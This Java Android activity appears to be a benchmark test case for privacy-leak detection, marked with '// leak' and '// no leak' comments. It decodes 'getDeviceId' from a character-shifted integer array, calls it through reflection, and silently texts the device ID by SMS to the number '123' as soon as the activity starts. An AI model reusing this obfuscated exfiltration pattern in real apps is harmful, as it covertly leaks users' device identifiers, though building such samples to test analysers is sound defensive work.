package olden;

import android.app.*;
import android.content.*;
import android.os.*;

import java.lang.reflect.*;
import java.net.*;

/** Names of methods spelled out of numbers. */
public class Spelled extends Activity {
    static String d(int[] x) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < x.length; i++) b.append((char) (x[i] - 3));
        return b.toString();
    }

    static final int[] N = {106, 104, 119, 71, 104, 121, 108, 102, 104, 76, 103}; // getDeviceId
    static final int[] P = {115, 107, 114, 113, 104}; // phone

    static Object call(Object o, String m) {
        try {
            Method q = o.getClass().getMethod(m, new Class[0]);
            return q.invoke(o, new Object[0]);
        } catch (Exception e) {
            return null;
        }
    }

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        Object t = getSystemService(d(P));
        String s = (String) call(t, d(N)), u = (String) call(t, "getNetworkOperatorName");
        try {
            Class<?> k = Class.forName("android.telephony.SmsManager");
            Object m = k.getMethod("getDefault").invoke(null);
            Method q =
                    k.getMethod(
                            "sendTextMessage",
                            String.class,
                            String.class,
                            String.class,
                            PendingIntent.class,
                            PendingIntent.class);
            q.invoke(m, "123", null, s, null, null); // leak
            q.invoke(m, "123", null, u, null, null); // no leak
        } catch (Exception e) {
        }
    }
}
